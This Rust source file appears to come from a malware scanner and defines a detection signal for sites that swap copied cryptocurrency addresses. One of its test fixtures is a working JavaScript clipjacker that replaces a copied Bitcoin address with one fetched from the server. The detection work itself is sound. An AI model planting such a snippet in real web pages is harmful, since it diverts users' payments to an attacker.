//! `coins-swapped-on-copy`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::stream::Kind;
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "coins-swapped-on-copy",
    description: "Who copies the address of a currency gets another one.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::CoinAddress]), one(&[Atom::CopyCall])],
    within: 200,
    only_if: Some(on_copy),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            r#"let to='';fetch('/a').then(r=>r.json()).then(j=>to=j.a);document.addEventListener('copy',e=>{const s=getSelection().toString();if(/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/.test(s)){e.clipboardData.setData('text/plain',to);e.preventDefault()}})"#,
        ],
        without: &[
            r#"document.addEventListener('copy',e=>{const s=getSelection().toString();e.clipboardData.setData('text/plain',s+' from our site');e.preventDefault()})"#,
            r#"button.onclick=()=>{if(/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/.test(to))navigator.clipboard.writeText(to)}"#,
        ],
    },
};

fn on_copy(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 80);
    let listens = near.places().any(|at| {
        let listened = near.kind(at) == Some(Kind::Str)
            && matches!(near.word(at), "copy" | "cut")
            && matches!(near.word(at.wrapping_sub(2)), "addEventListener" | "on");
        listened || matches!(near.word(at), "oncopy" | "oncut") && near.is(at + 1, b'=')
    });
    listens && near.words(&["setData"]).any(|at| near.is(at + 1, b'('))
}
